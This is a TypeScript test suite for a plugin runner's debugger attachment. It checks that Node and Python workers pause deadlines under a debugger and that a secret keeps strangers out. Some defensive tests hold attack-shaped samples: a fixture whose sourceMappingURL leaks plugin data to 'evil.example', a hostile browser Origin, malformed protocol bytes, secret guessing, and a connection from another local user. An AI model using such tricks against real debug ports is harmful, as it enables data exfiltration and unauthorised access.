// Debuggers reach a worker through a stable port, and deadlines stand still while one is connected.
import { execFile, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import net from 'node:net';
import path from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, onTestFinished, test, vi } from 'vitest';
import { invocation, makePlugin, startRunner, type RunnerUnderTest } from './testHarness.ts';
import type { RunnerPlugin, WorkerStatus } from './types.ts';
import type { AttachPlace } from '../contract/attachTarget.ts';
import type { Runtime } from '../contract/runtime.ts';

async function attach(under: RunnerUnderTest, plugin: RunnerPlugin, runtime: Runtime, preferred?: number): Promise<AttachPlace> {
  const target = await under.runner.attachTarget(plugin, runtime, preferred);
  if ('error' in target) throw new Error(target.error.message);
  expect(target.host).toBe('127.0.0.1');
  return target;
}

/** Whether anybody listens at a port of this machine. */
function isOpen(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = net.connect(port, '127.0.0.1', () => void socket.destroy());
    socket.once('error', () => resolve(false)).once('close', (hadError) => resolve(!hadError));
  });
}

/** The port is closed, and nobody is told of it any more. */
async function isClosed(under: RunnerUnderTest, port: number): Promise<void> {
  await vi.waitFor(async () => expect(await isOpen(port)).toBe(false), { timeout: 10_000 });
  // That the last connection has ended is heard a moment later.
  const told = (): unknown => under.runner.workers().filter((one) => one.debuggerAttached || one.debugPort !== undefined);
  await expect.poll(told).toEqual([]);
}

/** What comes back for these bytes until the connection ends. */
function answerTo(port: number, bytes: string): Promise<string> {
  return new Promise((resolve) => {
    let text = '';
    const socket = net.connect(port, '127.0.0.1', () => void socket.write(bytes));
    socket.on('data', (chunk) => void (text += chunk.toString('latin1'))).on('error', () => undefined);
    socket.on('close', () => resolve(text));
  });
}

function handshake(target: string, fields = ''): string {
  return `GET ${target} HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n${fields}\r\n`;
}

/** What an inspector says with an event, as far as it is looked at. */
interface Told {
  callFrames?: { functionName: string; location: { lineNumber: number } }[];
}

/** A client of the Chrome DevTools Protocol, just large enough. */
async function inspect({
  websocketAddress,
}: AttachPlace): Promise<{ send(method: string, params?: object): Promise<void>; event(method: string): Promise<Told>; close(): void }> {
  const socket = new WebSocket(websocketAddress!);
  onTestFinished(() => socket.close());
  await once(socket, 'open');
  const answered = new Map<number | string, (params: Told) => void>();
  socket.addEventListener('message', ({ data }) => {
    const { id, method, params = {} } = JSON.parse(String(data)) as { id?: number; method?: string; params?: Told };
    answered.get(id ?? method!)?.(params);
  });
  let lastId = 0;
  const wait = (key: number | string): Promise<Told> => new Promise((resolve) => void answered.set(key, resolve));
  return {
    send: async (method, params = {}) => {
      const id = ++lastId;
      const done = wait(id);
      socket.send(JSON.stringify({ id, method, params }));
      await done;
    },
    event: wait,
    close: () => socket.close(),
  };
}

/** A client of the Debug Adapter Protocol, just large enough. */
function debugAdapter(port: number): {
  send(command: string, args?: object): void;
  message(
    check: (message: { type: string; event?: string; command?: string; body?: Record<string, unknown> }) => boolean,
  ): Promise<{ body?: Record<string, unknown> }>;
  closed: Promise<unknown>;
  close(): void;
} {
  const socket = net.connect(port, '127.0.0.1').on('error', () => undefined);
  onTestFinished(() => void socket.destroy());
  const messages: { type: string; event?: string; command?: string; body?: Record<string, unknown> }[] = [];
  const waiters = new Set<() => void>();
  let buffer = Buffer.alloc(0);
  socket.on('data', (chunk) => {
    buffer = Buffer.concat([buffer, chunk]);
    for (;;) {
      const end = buffer.indexOf('\r\n\r\n');
      if (end < 0) return;
      const length = Number(/Content-Length: (\d+)/.exec(buffer.toString('latin1', 0, end))![1]);
      if (buffer.length < end + 4 + length) return;
      messages.push(JSON.parse(buffer.toString('utf8', end + 4, end + 4 + length)) as (typeof messages)[number]);
      buffer = buffer.subarray(end + 4 + length);
      for (const waiter of waiters) waiter();
    }
  });
  let seq = 0;
  return {
    send: (command, args = {}) => {
      const text = JSON.stringify({ seq: ++seq, type: 'request', command, arguments: args });
      socket.write(`Content-Length: ${Buffer.byteLength(text)}\r\n\r\n${text}`);
    },
    message: (check) =>
      new Promise((resolve) => {
        const look = (): void => {
          const found = messages.find(check);
          if (found === undefined) return;
          waiters.delete(look);
          resolve(found);
        };
        waiters.add(look);
        look();
      }),
    closed: once(socket, 'close'),
    close: () => void socket.destroy(),
  };
}

/** A debugger of Python's that is let in, and has at most a breakpoint to tell of at the beginning. */
async function attachedAdapter(
  { port, secret }: Pick<AttachPlace, 'port' | 'secret'>,
  breakpoint?: { file: string; line: number },
): Promise<ReturnType<typeof debugAdapter>> {
  const client = debugAdapter(port);
  const answered = (wanted: string): Promise<unknown> => client.message(({ type, command }) => type === 'response' && command === wanted);
  client.send('initialize', { adapterID: 'test' });
  await answered('initialize');
  client.send('attach', { codexPluginSecret: secret });
  await client.message(({ event }) => event === 'initialized');
  if (breakpoint) client.send('setBreakpoints', { source: { path: breakpoint.file }, breakpoints: [{ line: breakpoint.line }] });
  client.send('configurationDone');
  await answered('attach');
  return client;
}

function workerOf(under: RunnerUnderTest, plugin: RunnerPlugin): WorkerStatus | undefined {
  return under.runner.workers().find(({ pluginKey }) => pluginKey === plugin.key);
}

/** Lets a deadline and its grace pass: a call that begins now with the same deadline, and without a debugger, comes to its end. */
async function outlast(under: RunnerUnderTest, deadlineMs: number): Promise<void> {
  const other = makePlugin({ 'stuck.js': 'exports.onFileSave = () => { for (;;); };' });
  expect(await under.runner.invoke(invocation(other, 'stuck.js', { deadlineMs }))).toMatchObject({ ok: false, error: { code: 'timeout' } });
  await under.status(({ pluginKey, state }) => pluginKey === other.key && state === 'stopped');
}

const hasDebugpy = spawnSync('/usr/bin/python3', ['-c', 'import debugpy']).status === 0;

describe('attach', () => {
  test('a Node handler stops at a breakpoint, and its deadline waits until the debugger is gone', async () => {
    const plugin = makePlugin({ 'a.js': 'exports.onFileSave = () => {\n  debugger;\n  return { ok: true };\n};' });
    const under = startRunner();
    const place = await attach(under, plugin, 'node');
    const client = await inspect(place);
    await under.status((status) => status.debuggerAttached && status.debugPort === place.port);
    await client.send('Debugger.enable');
    const paused = client.event('Debugger.paused');
    const call = under.runner.invoke(invocation(plugin, 'a.js', { deadlineMs: 50 }));
    await paused;
    await outlast(under, 50);
    expect(workerOf(under, plugin)).toMatchObject({ state: 'busy', debuggerAttached: true, debuggerPaused: true });
    await client.send('Debugger.resume');
    expect(await call).toMatchObject({ ok: true });
    await under.status(({ pluginKey, debuggerPaused }) => pluginKey === plugin.key && !debuggerPaused);
    client.close();
    await under.status(({ debuggerAttached }) => !debuggerAttached);
  });

  test('the debugger is not told of source maps at addresses that the plugin names, and of those of its files it is', async () => {
    const plugin = makePlugin({
      'a.js': `exports.onFileSave = () => {
        (0, eval)('1\\n//# sourceMappingURL=http://evil.example/?what-the-plugin-read');
        require('./b.js');
        return {};
      };`,
      'b.js': '//# sourceMappingURL=b.js.map',
    });
    const under = startRunner();
    const { websocketAddress } = await attach(under, plugin, 'node');
    const socket = new WebSocket(websocketAddress!);
    onTestFinished(() => socket.close());
    await once(socket, 'open');
    const maps: string[] = [];
    const toldOfFile = new Promise<void>((resolve) => {
      socket.addEventListener('message', ({ data }) => {
        const { params } = JSON.parse(String(data)) as { params?: { sourceMapURL?: string; url?: string } };
        if (params?.sourceMapURL) maps.push(params.sourceMapURL);
        if (params?.url?.endsWith('/b.js')) resolve();
      });
    });
    socket.send(JSON.stringify({ id: 1, method: 'Debugger.enable' }));
    expect(await under.runner.invoke(invocation(plugin, 'a.js'))).toMatchObject({ ok: true });
    await toldOfFile;
    expect(maps).toEqual(['b.js.map']);
  });

  test('deadlines count again when the debugger has gone', async () => {
    const plugin = makePlugin({ 'a.js': "exports.onFileSave = (e, { log }) => { log.info('running'); return new Promise(() => {}); };" });
    const under = startRunner();
    const client = await inspect(await attach(under, plugin, 'node'));
    const call = under.runner.invoke(invocation(plugin, 'a.js', { deadlineMs: 50 }));
    await under.line(({ text }) => text === 'running');
    client.close();
    expect(await call).toMatchObject({ ok: false, error: { code: 'timeout' } });
  });

  test('the port stays the same over restarts, and a connection starts the worker that it needs', async () => {
    const plugin = makePlugin({ 'a.js': 'exports.onFileSave = () => ({ pid: process.pid });' });
    const under = startRunner();
    const place = await attach(under, plugin, 'node');
    const first = await inspect(place);
    await first.send('Runtime.enable');
    const before = await under.runner.invoke(invocation(plugin, 'a.js'));
    await under.runner.restart(plugin.key);
    await under.status(({ state, debuggerAttached }) => state === 'stopped' && !debuggerAttached);
    expect(under.runner.workers()).toMatchObject([{ debugPort: place.port }]);
    const client = await inspect(place);
    await client.send('Runtime.runIfWaitingForDebugger');
    const after = await under.runner.invoke(invocation(plugin, 'a.js'));
    expect(before.ok && after.ok && before.value!['pid'] !== after.value!['pid']).toBe(true);
    expect((await attach(under, plugin, 'node')).port).toBe(place.port);
    await under.runner.restart(plugin.key, { forget: true });
    await isClosed(under, place.port);
  });

  test('a debugger that goes because its program ends, as those of editors do, may come back to the next worker', async () => {
    const plugin = makePlugin({
      'a.js': 'exports.onFileSave = (event) => (/leave/.test(event) ? process.exit(0) : { pid: process.pid });',
    });
    const under = startRunner();
    const place = await attach(under, plugin, 'node');
    const first = await inspect(place);
    await first.send('NodeRuntime.enable');
    await first.send('NodeRuntime.notifyWhenWaitingForDisconnect', { enabled: true });
    const ends = first.event('NodeRuntime.waitingForDisconnect');
    const left = under.runner.invoke(invocation(plugin, 'a.js', { payload: '{"leave":true}' }));
    await ends;
    first.close();
    expect(await left).toMatchObject({ ok: false });
    await under.status(({ debuggerAttached }) => !debuggerAttached);
    const second = await inspect(place);
    await second.send('Runtime.runIfWaitingForDebugger');
    expect(await under.runner.invoke(invocation(plugin, 'a.js'))).toMatchObject({ ok: true });
    expect(under.runner.workers()).toMatchObject([{ debugPort: place.port, debuggerAttached: true }]);
    second.close();
    await isClosed(under, place.port);
  });

  test('after its worker was replaced, calls wait until the debugger is back with its breakpoints', async () => {
    const plugin = makePlugin({ 'a.js': 'exports.onFileSave = () => {\n  return { ok: true };\n};' });
    const under = startRunner();
    const place = await attach(under, plugin, 'node');
    const first = await inspect(place);
    await first.send('Debugger.enable');
    await under.runner.restart(plugin.key);
    const call = under.runner.invoke(invocation(plugin, 'a.js', { deadlineMs: 50 }));
    const client = await inspect(place);
    await client.send('Debugger.enable');
    const paused = client.event('Debugger.paused');
    await client.send('Debugger.setBreakpointByUrl', { lineNumber: 1, urlRegex: '.*a\\.js' });
    await client.send('Runtime.runIfWaitingForDebugger');
    await paused;
    await client.send('Debugger.resume');
    expect(await call).toMatchObject({ ok: true });
  });

  test('a debugger that says goodbye to a worker that is being replaced is let in again', async () => {
    const plugin = makePlugin({ 'a.js': 'exports.onFileSave = () => ({ ok: true });' });
    const under = startRunner();
    const place = await attach(under, plugin, 'node');
    const first = await inspect(place);
    await first.send('Debugger.enable');
    const restarted = under.runner.restart(plugin.key);
    first.close();
    await restarted;
    const client = await inspect(place);
    await client.send('Runtime.runIfWaitingForDebugger');
    expect(await under.runner.invoke(invocation(plugin, 'a.js'))).toMatchObject({ ok: true });
    client.close();
    await isClosed(under, place.port);
  });

  test('a debugger that does not come back is not waited for long', async () => {
    const plugin = makePlugin({ 'a.js': 'exports.onFileSave = () => ({ ok: true });' });
    const under = startRunner();
    const place = await attach(under, plugin, 'node');
    const client = await inspect(place);
    await client.send('Debugger.enable');
    await under.runner.restart(plugin.key);
    expect(await under.runner.invoke(invocation(plugin, 'a.js'))).toMatchObject({ ok: true });
  });

  test('the preferred port is used when it is free, and another one when it is not', async () => {
    const occupied = net.createServer().listen(0, '127.0.0.1');
    await once(occupied, 'listening');
    onTestFinished(() => void occupied.close());
    const { port: taken } = occupied.address() as net.AddressInfo;
    const probe = net.createServer().listen(0, '127.0.0.1');
    await once(probe, 'listening');
    const { port: free } = probe.address() as net.AddressInfo;
    probe.close();
    await once(probe, 'close');
    const plugin = makePlugin({ 'a.js': 'exports.onFileSave = () => ({});' });
    expect((await attach(startRunner(), plugin, 'node', free)).port).toBe(free);
    expect((await attach(startRunner(), plugin, 'node', taken)).port).not.toBe(taken);
  });

  const failing = (throwing: string, where: string): string =>
    `exports.onFileSave = ${where};\nasync function later() {\n  await null;\n  ${throwing}\n}`;
  test.each([
    ['throws', "() => {\n  throw new Error('sorry');\n}", 1],
    ['is rejected at once', "async () => {\n  throw new Error('sorry');\n}", 1],
    ['is rejected later', "async () => {\n  await null;\n  throw new Error('sorry');\n}", 2],
    ['is rejected further down', 'async () => {\n  return await later();\n}', 5],
  ])('uncaught exceptions stop in the line of the handler: one that %s', async (_what, code, line) => {
    const plugin = makePlugin({
      'a.js': failing("throw new Error('sorry');", code),
      'b.js': 'exports.onFileSave = async () => { try { throw 1; } catch { return {}; } };',
    });
    const under = startRunner();
    const client = await inspect(await attach(under, plugin, 'node'));
    await client.send('Debugger.enable');
    await client.send('Debugger.setPauseOnExceptions', { state: 'uncaught' });
    // What the handler catches itself is none.
    expect(await under.runner.invoke(invocation(plugin, 'b.js'))).toMatchObject({ ok: true });
    const paused = client.event('Debugger.paused');
    const call = under.runner.invoke(invocation(plugin, 'a.js'));
    const { callFrames: [top] = [] } = await paused;
    expect(top?.location.lineNumber).toBe(line);
    await client.send('Debugger.resume');
    expect(await call).toMatchObject({ ok: false, error: { code: 'handler-threw', message: expect.stringContaining('sorry') } });
    expect(await under.runner.invoke(invocation(plugin, 'b.js'))).toMatchObject({ ok: true });
    expect(under.runner.workers()).toMatchObject([{ debuggerAttached: true }]);
  });

  test.runIf(hasDebugpy).each([
    ['function', 'def handler(event):\n    raise ValueError("sorry")\n', 2],
    ['coroutine', 'async def handler(event):\n    raise ValueError("sorry")\n', 2],
  ])('uncaught exceptions stop in the line of a handler in Python that is a %s', async (_what, code, line) => {
    const plugin = makePlugin({ 'a.py': code }, { runtime: { python: '/usr/bin/python3' } });
    const under = startRunner();
    const { port, secret, ownFolder } = await attach(under, plugin, 'python');
    const client = debugAdapter(port);
    client.send('initialize', { adapterID: 'test', linesStartAt1: true, pathFormat: 'path' });
    await client.message(({ type, command }) => type === 'response' && command === 'initialize');
    client.send('attach', { justMyCode: true, rules: [{ path: `${ownFolder}/**`, include: false }], codexPluginSecret: secret });
    await client.message(({ event }) => event === 'initialized');
    client.send('setExceptionBreakpoints', { filters: ['uncaught'] });
    await client.message(({ type, command }) => type === 'response' && command === 'setExceptionBreakpoints');
    client.send('configurationDone');
    await client.message(({ type, command }) => type === 'response' && command === 'attach');
    const call = under.runner.invoke(invocation(plugin, 'a.py'));
    const { body } = await client.message(({ event }) => event === 'stopped');
    expect(body).toMatchObject({ reason: 'exception' });
    client.send('stackTrace', { threadId: body!['threadId'] });
    const { body: trace } = await client.message(({ type, command }) => type === 'response' && command === 'stackTrace');
    expect((trace as { stackFrames: { line: number }[] }).stackFrames[0]).toMatchObject({ line, name: 'handler' });
    client.send('continue', { threadId: body!['threadId'] });
    expect(await call).toMatchObject({ ok: false, error: { code: 'handler-threw', message: expect.stringContaining('sorry') } });
  });

  test('without debugpy, the message says what to install', async () => {
    // What is None there is not to be found: this stands for a Python without debugpy.
    const plugin = makePlugin({ 'a.py': 'import sys\nsys.modules["debugpy"] = None\ndef handler(e): return {}' });
    const under = startRunner({ python: '/usr/bin/python3' });
    await under.runner.invoke(invocation(plugin, 'a.py'));
    expect(await under.runner.attachTarget(plugin, 'python')).toMatchObject({
      error: {
        message: expect.stringMatching(/com\.example\.test: debugpy is not installed for .*python.*pip install debugpy/),
        lacksDebugpy: { isManaged: expect.any(Boolean) },
      },
      debugpy: { python: expect.stringMatching(/python/), mayInstall: expect.any(Boolean) },
    });
  });

  test.runIf(hasDebugpy)('a Python handler stops at a breakpoint, and its deadline waits', async () => {
    const plugin = makePlugin(
      { 'a.py': 'def handler(event):\n    answer = {"ok": True}\n    return answer\n' },
      { runtime: { python: '/usr/bin/python3' } },
    );
    const under = startRunner();
    // Some thread of the worker exists, and waits, before the debugger comes.
    expect(await under.runner.invoke(invocation(plugin, 'a.py'))).toMatchObject({ ok: true });
    const { port, secret, ownFolder } = await attach(under, plugin, 'python', 5678);
    const client = debugAdapter(port);
    client.send('initialize', { adapterID: 'test', linesStartAt1: true, pathFormat: 'path' });
    await client.message(({ type, command }) => type === 'response' && command === 'initialize');
    // As the editor's configuration has it: our own frames are none of the plugin's.
    const rules = [{ path: `${ownFolder}/**`, include: false }];
    client.send('attach', { justMyCode: true, rules, codexPluginSecret: secret });
    await client.message(({ event }) => event === 'initialized');
    client.send('setBreakpoints', { source: { path: path.join(plugin.folder, 'a.py') }, breakpoints: [{ line: 3 }] });
    await client.message(({ type, command }) => type === 'response' && command === 'setBreakpoints');
    client.send('configurationDone');
    await client.message(({ type, command }) => type === 'response' && command === 'attach');
    const call = under.runner.invoke(invocation(plugin, 'a.py', { deadlineMs: 50 }));
    const { body } = await client.message(({ event }) => event === 'stopped');
    expect(body).toMatchObject({ reason: 'breakpoint' });
    client.send('stackTrace', { threadId: body!['threadId'] });
    const shown = await client.message(({ type, command }) => type === 'response' && command === 'stackTrace');
    const frames = shown.body!['stackFrames'] as { source?: { path?: string } }[];
    expect(frames.map(({ source }) => source?.path)).toEqual([path.join(plugin.folder, 'a.py')]);
    await outlast(under, 50);
    expect(workerOf(under, plugin)).toMatchObject({ state: 'busy', debuggerAttached: true, debuggerPaused: true });
    client.send('continue', { threadId: body!['threadId'] });
    expect(await call).toMatchObject({ ok: true, value: { ok: true } });
    expect(workerOf(under, plugin)).toMatchObject({ debuggerAttached: true, debuggerPaused: false });
    // What a distribution's debugger says of how it was packed is no word of the plugin's.
    expect(under.lines.filter(({ text }) => text.includes('pydev'))).toEqual([]);
    client.send('disconnect');
    await client.message(({ type, command }) => type === 'response' && command === 'disconnect');
    client.close();
    await isClosed(under, port);
  });
});

test.runIf(hasDebugpy)('a debugger for Python whose worker ends is answered its goodbye, for which editors wait', async () => {
  const plugin = makePlugin({ 'a.py': 'def handler(event):\n    return {}\n' }, { runtime: { python: '/usr/bin/python3' } });
  const under = startRunner();
  const place = await attach(under, plugin, 'python');
  const client = await attachedAdapter(place);
  const restarted = under.runner.restart(plugin.key);
  await client.message(({ event }) => event === 'terminated');
  await restarted;
  await under.status(({ debuggerAttached }) => !debuggerAttached);
  client.send('disconnect');
  expect(await client.message(({ type, command }) => type === 'response' && command === 'disconnect')).toMatchObject({ success: true });
  await client.closed;
});

test.runIf(hasDebugpy).each([
  ['terminate', {}],
  ['disconnect', { terminateDebuggee: true, restart: true }],
])('a debugger for Python that says %s leaves the worker, and can begin again at once', { timeout: 60_000 }, async (command, given) => {
  const plugin = makePlugin(
    { 'a.py': 'import os\ndef handler(event):\n    return {"pid": os.getpid()}\n' },
    { runtime: { python: '/usr/bin/python3' } },
  );
  const under = startRunner();
  const place = await attach(under, plugin, 'python');
  const first = await attachedAdapter(place);
  const { pid } = workerOf(under, plugin)!;
  first.send(command, given);
  expect(await first.message(({ type, command: answered }) => type === 'response' && answered === command)).toMatchObject({
    success: true,
  });
  first.close();
  await attachedAdapter(place);
  expect(await under.runner.invoke(invocation(plugin, 'a.py'))).toMatchObject({ ok: true, value: { pid } });
});

test.runIf(hasDebugpy)(
  'all threads of Python go on when one that stands still is told to, as each may have the next call',
  { timeout: 60_000 },
  async () => {
    const plugin = makePlugin(
      { 'a.py': 'def handler(event):\n    value = 1\n    return {"value": value}\n' },
      { runtime: { python: '/usr/bin/python3' } },
    );
    const under = startRunner();
    const client = await attachedAdapter(await attach(under, plugin, 'python'), { file: path.join(plugin.folder, 'a.py'), line: 3 });
    const seen = new Set<unknown>();
    for (let round = 0; round < 10; round++) {
      const calls = [0, 1].map(() => under.runner.invoke(invocation(plugin, 'a.py')));
      for (const _ of calls) {
        const stop = await client.message((message) => message.event === 'stopped' && !seen.has(message));
        seen.add(stop);
        client.send('continue', { threadId: stop.body?.['threadId'] });
      }
      expect(await Promise.all(calls)).toMatchObject([{ ok: true }, { ok: true }]);
    }
  },
);

test('a debugger for Node.js that is restarted, as editors do with what they know of it, comes back to the same port', async () => {
  const plugin = makePlugin({ 'a.js': 'exports.onFileSave = () => ({ pid: process.pid });' });
  const under = startRunner();
  const target = await attach(under, plugin, 'node');
  const attached = (is: boolean): Promise<void> => expect.poll(() => workerOf(under, plugin)?.debuggerAttached ?? false).toBe(is);
  const client = await inspect(target);
  await attached(true);
  client.close();
  await attached(false);
  const again = await inspect(target);
  await attached(true);
  again.close();
  await isClosed(under, target.port);
});

test.runIf(hasDebugpy)('a second debugger for Python is told of the first one, which goes on', async () => {
  const plugin = makePlugin({ 'a.py': 'def handler(event):\n    return {}\n' }, { runtime: { python: '/usr/bin/python3' } });
  const under = startRunner();
  const place = await attach(under, plugin, 'python');
  const client = await attachedAdapter(place);
  const second = debugAdapter(place.port);
  second.send('initialize', { adapterID: 'test' });
  expect(await second.message(({ type }) => type === 'response')).toMatchObject({
    success: false,
    command: 'initialize',
    message: expect.stringContaining('Another debugger is attached'),
  });
  await second.closed;
  client.send('threads');
  expect(await client.message(({ type, command }) => type === 'response' && command === 'threads')).toMatchObject({ success: true });
  expect(workerOf(under, plugin)).toMatchObject({ debuggerAttached: true });
});

describe('attach, for strangers', () => {
  const files = { 'a.js': 'exports.onFileSave = () => ({ pid: process.pid });' };

  test('who does not know the secret gets nothing, and starts no worker', async () => {
    const plugin = makePlugin(files);
    const under = startRunner();
    const { port, secret } = await attach(under, plugin, 'node');
    await under.runner.restart(plugin.key);
    for (const target of [
      '/json',
      '/json/list',
      '/json/version',
      '/json/protocol',
      '/',
      `/${secret.slice(1)}`,
      `/${secret}x`,
      `/x/../${secret}`,
    ])
      for (const bytes of [handshake(target), `GET ${target} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`])
        expect(await answerTo(port, bytes), target).toMatch(/^HTTP\/1\.1 404 Not Found\r\n/);
    // Pages of a browser, whatever they have heard of.
    expect(await answerTo(port, handshake(`/${secret}`, 'Origin: http://evil.example\r\n'))).toMatch(/^HTTP\/1\.1 404 /);
    expect(await answerTo(port, `GET /${secret} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`)).toMatch(/^HTTP\/1\.1 404 /);
    expect(await answerTo(port, 'x'.repeat(20_000))).toBe('');
    expect(under.runner.workers()).toMatchObject([{ state: 'stopped' }]);
    // The one whom the user asked for is let in still, and gets a worker.
    const client = await inspect({ websocketAddress: `ws://127.0.0.1:${port}/${secret}` } as AttachPlace);
    await client.send('Runtime.enable');
    await under.status(({ debuggerAttached }) => debuggerAttached);
  });

  test.for(['node', 'python'] as const)('nothing that strangers say to the port for %s brings the host down', async (runtime) => {
    const faults: unknown[] = [];
    const noteFault = (error: unknown): void => void faults.push(error);
    process.on('uncaughtException', noteFault).on('unhandledRejection', noteFault);
    onTestFinished(() => void process.off('uncaughtException', noteFault).off('unhandledRejection', noteFault));
    if (runtime === 'python' && !hasDebugpy) return;
    const plugin = makePlugin(
      { 'a.js': 'exports.onFileSave = () => ({});', 'a.py': 'def handler(event):\n    return {}\n' },
      { runtime: { python: '/usr/bin/python3' } },
    );
    const under = startRunner();
    const { port } = await attach(under, plugin, runtime);
    const message = (text: string): string => `Content-Length: ${text.length}\r\n\r\n${text}`;
    for (const bytes of [
      ...[
        '\r\n\r\n',
        '\0'.repeat(10_000),
        'GET',
        handshake('/x').repeat(3),
        'Content-Length: -1\r\n\r\n',
        'Content-Length: 99999999999\r\n\r\n',
      ],
      ...['null', '5', '[]', '{}', '{"type":1}', '{"type":"request"}', '{', '{"type":"request","command":{},"arguments":null}'].map(
        message,
      ),
      message('{"seq":1,"type":"request","command":"initialize"}') + message('{"seq":2,"type":"request","command":"attach","arguments":7}'),
      message('{"seq":1,"type":"request","command":"initialize","arguments":null}') +
        message('{"seq":2,"type":"request","command":"evaluate"}'),
    ])
      await new Promise<void>((resolve) => {
        const socket = net.connect(port, '127.0.0.1', () => void socket.end(Buffer.from(bytes, 'latin1')));
        socket.on('error', () => undefined).on('close', () => resolve());
        socket.resume();
      });
    expect(faults).toEqual([]);
    expect(workerOf(under, plugin)).toMatchObject({ state: 'ready', debuggerAttached: false, debugPort: port });
  });

  test('the inspector of the worker itself tells nobody how to get in', async () => {
    const plugin = makePlugin({
      'a.js': "exports.onFileSave = () => ({ url: require('node:inspector').url() });",
    });
    const under = startRunner();
    await attach(under, plugin, 'node');
    const outcome = await under.runner.invoke(invocation(plugin, 'a.js'));
    const port = Number(new URL(String(outcome.ok && outcome.value!['url'])).port);
    for (const name of ['json', 'json/list', 'json/version']) {
      const answer = await fetch(`http://127.0.0.1:${port}/${name}`);
      expect(await answer.text()).not.toMatch(/ws:|webSocketDebuggerUrl/);
    }
  });

  test('one session at a time, and no port is left when it is over', async () => {
    const plugin = makePlugin(files);
    const under = startRunner();
    const place = await attach(under, plugin, 'node');
    const client = await inspect(place);
    await client.send('Runtime.enable');
    expect(await answerTo(place.port, handshake(`/${place.secret}`))).toMatch(/^HTTP\/1\.1 409 /);
    client.close();
    await isClosed(under, place.port);
  });

  test('a client that hangs up without a word ends the session too', async () => {
    const plugin = makePlugin(files);
    const under = startRunner();
    const place = await attach(under, plugin, 'node');
    const socket = net.connect(place.port, '127.0.0.1', () => void socket.write(handshake(`/${place.secret}`)));
    await once(socket, 'data');
    socket.destroy();
    await isClosed(under, place.port);
  });

  test('asked for again, there is another secret, and the session before makes way', async () => {
    const plugin = makePlugin(files);
    const under = startRunner();
    const first = await attach(under, plugin, 'node');
    const old = new WebSocket(first.websocketAddress!);
    await once(old, 'open');
    const second = await attach(under, plugin, 'node');
    expect(second.port).toBe(first.port);
    expect(second.secret).not.toBe(first.secret);
    expect(await answerTo(first.port, handshake(`/${first.secret}`))).toMatch(/^HTTP\/1\.1 404 /);
    const gone = once(old, 'close');
    const client = await inspect(second);
    await gone;
    await client.send('Runtime.enable');
    expect(workerOf(under, plugin)).toMatchObject({ debuggerAttached: true, debugPort: first.port });
  });

  test('a debugger that does not come is not waited for', async () => {
    const plugin = makePlugin(files);
    const under = startRunner({ debuggerMs: 200 });
    const { port } = await attach(under, plugin, 'node');
    await under.status(({ debugPort }) => debugPort === port);
    await isClosed(under, port);
  });

  test.runIf(process.platform === 'linux' && process.getuid?.() === 0)('another user of this machine is not even heard', async () => {
    const plugin = makePlugin(files);
    const under = startRunner();
    const { port, secret } = await attach(under, plugin, 'node');
    const knock = `
      const socket = require('node:net').connect(${port}, '127.0.0.1', () => socket.write(${JSON.stringify(handshake(`/${secret}`))}));
      let text = '';
      socket.on('data', (chunk) => (text += chunk)).on('error', () => {}).on('close', () => console.log(JSON.stringify({ uid: process.getuid(), text })));`;
    const { stdout } = await promisify(execFile)(process.execPath, ['-e', knock], { uid: 65_534, gid: 65_534, cwd: '/', env: {} });
    expect(JSON.parse(stdout)).toEqual({ uid: 65_534, text: '' });
    expect(workerOf(under, plugin)).toMatchObject({ debuggerAttached: false });
  });

  test.runIf(hasDebugpy)('a Python worker is debugged by nobody who does not know the secret, at neither port', async () => {
    const plugin = makePlugin(
      { 'a.py': 'import pydevd\ndef handler(event):\n    return {"port": pydevd.get_global_debugger()._server_socket_name[1]}\n' },
      { runtime: { python: '/usr/bin/python3' } },
    );
    const under = startRunner();
    const { port } = await attach(under, plugin, 'python');
    for (const given of [{}, { codexPluginSecret: 'wrong' }, { codexPluginSecret: 1 }]) {
      const client = debugAdapter(port);
      client.send('initialize', { adapterID: 'test' });
      await client.message(({ type, command }) => type === 'response' && command === 'initialize');
      client.send('attach', given);
      await client.closed;
    }
    const impatient = debugAdapter(port);
    impatient.send('attach', {});
    await impatient.closed;
    const outcome = await under.runner.invoke(invocation(plugin, 'a.py'));
    const own = debugAdapter(Number(outcome.ok && outcome.value!['port']));
    own.send('initialize', { adapterID: 'test' });
    const answer = await own.message(({ type, command }) => type === 'response' && command === 'initialize');
    expect(answer).toMatchObject({ success: false, message: 'Client not authenticated.' });
  });
});
